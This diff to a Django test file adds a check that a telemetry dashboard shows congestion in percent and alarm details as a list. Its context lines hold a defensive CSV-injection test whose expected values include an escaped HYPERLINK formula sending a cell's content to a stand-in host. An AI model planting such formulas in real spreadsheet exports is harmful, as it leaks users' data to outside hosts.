@@ -313,3 +313,32 @@ def test_alarm_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(alarm, users,
     (row,) = list(csv.DictReader(io.StringIO(body)))
     assert row["object"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
     assert (row["message"], row["object_key"], row["count"]) == ("'@SUM(1+1)", "'-x", "1")
+
+
+def test_dashboard_shows_ratios_in_percent_and_alarm_details_as_a_list(alarm, users, topo, client_for):
+    """Issue 26: the dashboard showed congestion as 0.38 where the heatmap shows %, and the alarm
+    page showed its details as a raw Python dict. One unit (%, one decimal, as the heatmap) and
+    a key: value list."""
+    from django.utils import timezone
+
+    from telemetry.models import PortCounters, Sweep
+
+    s = Sweep.objects.create(fabric=topo.fabric, started=timezone.now(), interval_s=10)
+    PortCounters.objects.create(port=topo.ports[("leaf01", 2)], sweep=s, congestion=0.384, utilisation=0.05)
+    c = client_for(users["viewer"])
+    html = c.get("/").content.decode()
+    assert "<th>Congestion (%)</th>" in html and "<td>38.4 %</td><td>5.0 %</td>" in html
+    assert "0.38" not in html
+    alarm.details = {
+        "value": 30.0,
+        "threshold": 10,
+        "counters": ["symbol_errors", "rcv_errors"],
+        "source": None,
+    }
+    alarm.save(update_fields=["details"])
+    page = c.get(f"/alarms/{alarm.pk}/").content.decode()
+    assert "{&#x27;" not in page and "{'" not in page
+    assert (
+        '<dl class="kv" id="alarm-details"><dt>counters</dt><dd>symbol_errors, rcv_errors</dd>'
+        "<dt>source</dt><dd>—</dd><dt>threshold</dt><dd>10</dd><dt>value</dt><dd>30</dd></dl>"
+    ) in page
